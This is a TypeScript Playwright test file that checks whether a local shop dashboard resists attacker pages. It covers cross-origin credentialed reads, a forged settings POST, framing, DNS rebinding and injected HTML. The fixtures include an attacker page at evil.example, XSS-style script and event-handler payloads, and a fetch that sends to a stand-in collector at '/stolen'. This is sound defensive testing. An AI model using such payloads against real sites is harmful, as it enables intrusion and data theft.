import { createServer } from 'node:http';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../support/browser';
import { serve } from '../main/server/support';
import { openShop, whileCounting, type Shop } from './dashboard-support';

/** What web pages of others can do in the browser of somebody who was let in, in a real one. */

let browser: Browser;
beforeAll(async () => {
  // Their names lead to this computer: so do those of an attacker who rebinds.
  browser = await launchBrowser('--host-resolver-rules=MAP *.example 127.0.0.1');
});
afterAll(() => browser.close());

/** A browser with the owner's session, and one with a guest's. */
async function letIn(shop: Shop): Promise<[context: BrowserContext, url: string][]> {
  const owner = await browser.newContext();
  await (await owner.newPage()).goto(`${shop.owner}/?key=${shop.apiKey}`);
  const guest = await browser.newContext();
  const page = await guest.newPage();
  await page.goto(shop.link());
  await page.waitForURL(`${shop.guests}/`);
  return [
    [owner, shop.owner],
    [guest, shop.guests],
  ];
}

async function evilPage(html = '<!doctype html><title>evil</title>'): Promise<string> {
  const url = await serve(
    createServer((_request, response) => response.setHeader('content-type', 'text/html').end(html)),
  );
  return url.replace('127.0.0.1', 'evil.example');
}

test('a page of somebody else reads nothing, changes nothing, and shows nothing in a frame', async () => {
  const shop = await openShop();
  const evil = await evilPage();
  await whileCounting(shop, async () => {
    for (const [context, url] of await letIn(shop)) {
      const page = await context.newPage();
      await page.goto(evil);
      const outcomes = await page.evaluate(async (target) => {
        const attempt = async (path: string, init: RequestInit) => {
          try {
            const answer = await fetch(target + path, { credentials: 'include', ...init });
            return answer.type === 'opaque' ? 'opaque' : `${String(answer.status)} ${await answer.text()}`;
          } catch {
            return 'refused';
          }
        };
        const body = '{"language":"de"}';
        return Promise.all([
          attempt('/api/v1/cameras', {}),
          attempt('/', {}),
          attempt('/api/v1/cameras', { mode: 'no-cors' }),
          attempt('/api/v1/rpc/settings.update', { method: 'POST', body, mode: 'no-cors' }),
          attempt('/api/v1/rpc/settings.update', {
            method: 'POST',
            body,
            headers: { 'content-type': 'application/json' },
          }),
        ]);
      }, url);
      expect(outcomes.filter((outcome) => outcome !== 'refused' && outcome !== 'opaque')).toEqual([]);
      const loaded = await page.evaluate(
        (target) =>
          Promise.all(
            ['img', 'script', 'iframe'].map(
              (tag) =>
                new Promise<string>((resolve) => {
                  const element = Object.assign(document.createElement(tag), { src: `${target}/` });
                  element.onload = () => resolve(`${tag} loaded`);
                  element.onerror = () => resolve(`${tag} refused`);
                  document.body.append(element);
                }),
            ),
          ),
        url,
      );
      // A frame tells its parent nothing but that it is there; what it shows is the browser's own refusal.
      expect(loaded).toEqual(['img refused', 'script refused', 'iframe loaded']);
      expect(page.frames().map((frame) => frame.url())).toEqual([
        page.url(),
        'chrome-error://chromewebdata/',
      ]);
      await context.close();
    }
  });
  expect((await shop.core.call('settings.get', {})).language).toBe('auto');
});

test('a name that is bound to this computer anew reads nothing', async () => {
  const shop = await openShop();
  await whileCounting(shop, async () => {
    for (const [context, url] of await letIn(shop)) {
      const rebound = url.replace('127.0.0.1', 'rebound.example');
      const page = await context.newPage();
      const answer = await page.goto(`${rebound}/`);
      expect(answer?.status()).toBe(403);
      expect(await page.content()).not.toContain('<h1>');
      // From within that origin nothing is foreign any more: only the name gives it away.
      const read = await page.evaluate(() =>
        fetch('/api/v1/cameras', { credentials: 'include' }).then(({ status }) => status),
      );
      expect(read).toBe(403);
      await context.close();
    }
  });
});

test('nothing that is written into a page runs, and nothing leaves it', async () => {
  const shop = await openShop();
  const collector = await evilPage('');
  const injected = `<!doctype html><title>Foyer</title><h1>Foyer</h1>
    <script>document.title = 'inline'</script><img src="x:" onerror="document.title = 'handler'">
    <a id="link" href="javascript:document.title='link'">x</a><base href="${collector}/">
    <script src="${collector}/evil.js"></script><style>h1 { color: rgb(1, 2, 3) }</style>
    <p id="styled" style="color: rgb(1, 2, 3)"></p><form id="form" action="${collector}/"></form>`;
  await writeFile(join(shop.pages, 'index.html'), injected);
  await whileCounting(shop, async () => {
    for (const [context, url] of await letIn(shop)) {
      const page = await context.newPage();
      const asked: string[] = [];
      page.on('response', (response) => asked.push(response.url()));
      await page.goto(`${url}/`);
      await page.locator('#link').click();
      const outcome = await page.evaluate(async (target) => {
        const sent = await fetch(`${target}/stolen`, { mode: 'no-cors' }).then(
          () => 'sent',
          () => 'refused',
        );
        (document.getElementById('form') as HTMLFormElement).submit();
        const colours = ['h1', '#styled'].map(
          (name) => getComputedStyle(document.querySelector(name) ?? document.body).color,
        );
        return { sent, colours, base: document.baseURI, title: document.title };
      }, collector);
      expect(outcome.title).toBe('Foyer');
      expect(outcome.sent).toBe('refused');
      expect(outcome.colours).not.toContain('rgb(1, 2, 3)');
      expect(outcome.base).toBe(`${url}/`);
      expect(asked.filter((address) => !address.startsWith(url))).toEqual([]);
      await context.close();
    }
  });
});
